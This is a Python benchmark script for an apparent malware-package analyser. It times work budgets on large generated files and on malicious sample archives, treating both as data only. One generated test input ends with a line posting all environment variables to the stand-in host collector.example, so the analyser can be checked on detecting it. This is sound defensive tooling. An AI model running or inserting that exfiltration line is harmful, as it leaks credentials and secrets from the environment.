"""Per-file work budgets on big inputs: events found, budget hit, CPU seconds (issue 10 item 4);
the package work budget on whole packages (issue 14 part 2).

Usage: PYTHONPATH=src python bench/budget_probe.py [DATASET_DIR]
       PYTHONPATH=src python bench/budget_probe.py --packages [--uncapped] TARGET...

`--packages` reads each TARGET (a path or a registry spec, from malseq's download cache only:
`--offline`; append `#sdist` to a PyPI spec for its sdist) and runs the features and sequence
stages with the default package work budget (`PACKAGE_WORK_UNITS`), printing the units spent,
whether the package was cut (and how many files were not read) and the CPU seconds of the two
stages; `--uncapped` also prints the units the whole package would take.

Analyses (as data, through malseq's intake; nothing is installed or run) a generated ~6 MB
minified JavaScript bundle, a generated ~6 MB Python module whose last lines post os.environ out,
and the largest source files of the biggest archives under DATASET_DIR (the malicious samples),
and prints one line per file: size, events, budget exhausted, CPU seconds, the file's parse units
and the work units spent. Run it on an idle
machine to calibrate the constants in `malseq.features.budget`, and under load to see that only
the seconds change.
"""

from __future__ import annotations

import sys
import time
from pathlib import Path

from malseq._deadline import Deadline
from malseq.features.budget import FILE_WORK_UNITS, WorkBudget, parse_cost
from malseq.features.javascript import analyse_javascript
from malseq.features.python import analyse_python_text
from malseq.intake import IntakeOptions, load_target
from malseq.intake.package import Language, PackageFile
from malseq.intake.targets import LocalTarget

BUNDLE_CHUNK = "function a{i}(b,c){{return b.x{i}(c)+'s{i}'+require('m{i}')}}var v{i}=a{i}(1,[2,3,{{k:4}}]);"
PY_LINE = "a{i} = b(c, 'd' + e[1:2], lambda f: f.g(h))\n"
PY_TAIL = "import os\nimport requests\nrequests.post('https://collector.example/x', json=dict(os.environ))\n"


def generated() -> list[PackageFile]:
    bundle = "".join(BUNDLE_CHUNK.format(i=i) for i in range(60_000)).encode()
    module = ("".join(PY_LINE.format(i=i) for i in range(130_000)) + PY_TAIL).encode()
    return [PackageFile("bundle.min.js", bundle, Language.JAVASCRIPT, False),
            PackageFile("generated.py", module, Language.PYTHON, False)]


def sample_files(root: Path, archives: int = 16, min_bytes: int = 150_000) -> list[PackageFile]:
    found = sorted((p for p in root.rglob("*") if p.is_file() and p.name != "manifest.tsv"),
                   key=lambda p: p.stat().st_size, reverse=True)[:archives]
    out: list[PackageFile] = []
    for path in found:
        try:
            package = load_target(LocalTarget(path), IntakeOptions(zip_password=b"infected"), Deadline(120))
        except Exception as exc:  # noqa: BLE001 - a probe: report and go on
            print(f"# {path}: {type(exc).__name__}: {exc}", file=sys.stderr)
            continue
        big = [f for f in package.source_files
               if f.language in (Language.PYTHON, Language.JAVASCRIPT) and len(f.data) >= min_bytes]
        big.sort(key=lambda f: len(f.data), reverse=True)
        out.extend(PackageFile(f"{path.parent.parent.name}:{f.path}", f.data, f.language, f.is_binary)
                   for f in big[:2])
    return out


def packages(specs: list[str], uncapped: bool) -> None:
    from malseq.features import analyse_package
    from malseq.features.budget import PACKAGE_WORK_UNITS, PackageWorkBudget
    from malseq.intake import PypiDistribution
    from malseq.intake.targets import parse_target
    from malseq.sequence import build_sequence

    print(f"# PACKAGE_WORK_UNITS={PACKAGE_WORK_UNITS}")
    for spec in specs:
        text, _, form = spec.partition("#")
        distribution = PypiDistribution.SDIST if form == "sdist" else PypiDistribution.AUTO
        package = load_target(parse_target(text), IntakeOptions(offline=True, pypi_distribution=distribution),
                              Deadline(None))
        budget = PackageWorkBudget()
        start = time.process_time()
        analysis = analyse_package(package, Deadline(None), budget)
        features = time.process_time() - start
        start = time.process_time()
        build_sequence(package, analysis, Deadline(None))
        sequence = time.process_time() - start
        line = (f"{spec[:48]:48} {package.origin.filename or '-':60.60} files={len(package.source_files):5} "
                f"units={budget.used:9} cut={bool(analysis.unread)!s:5} unread={len(analysis.unread):5} "
                f"features_cpu={features:6.2f}s sequence_cpu={sequence:5.2f}s")
        if uncapped:
            whole = PackageWorkBudget(2**62)
            analyse_package(package, Deadline(None), whole)
            line += f" uncapped_units={whole.used}"
        print(line, flush=True)


def main() -> None:
    if sys.argv[1:2] == ["--packages"]:
        rest = sys.argv[2:]
        packages([a for a in rest if a != "--uncapped"], "--uncapped" in rest)
        return
    files = generated()
    if len(sys.argv) > 1:
        files += sample_files(Path(sys.argv[1]))
    for f in files:
        work = WorkBudget(FILE_WORK_UNITS, Deadline(600))
        start = time.process_time()
        if f.language is Language.PYTHON:
            analysis = analyse_python_text(f.path, f.data, work)
        else:
            analysis = analyse_javascript(f, Deadline(600), work)
        cpu = time.process_time() - start
        behaviours = sorted({e.behaviour for e in analysis.events})
        print(f"{f.path[:70]:70} {len(f.data) / 1e6:6.2f} MB  events={len(analysis.events):4} "
              f"calls={len(analysis.calls):5} exhausted={analysis.budget_exhausted!s:5} cpu={cpu:5.2f}s  "
              f"parse_units={parse_cost(f.data):8} work_units={work.used:7}  "
              f"{' '.join(b for b in behaviours if b in ('read_env', 'upload_data', 'network_request', 'eval_code'))}")


if __name__ == "__main__":
    main()
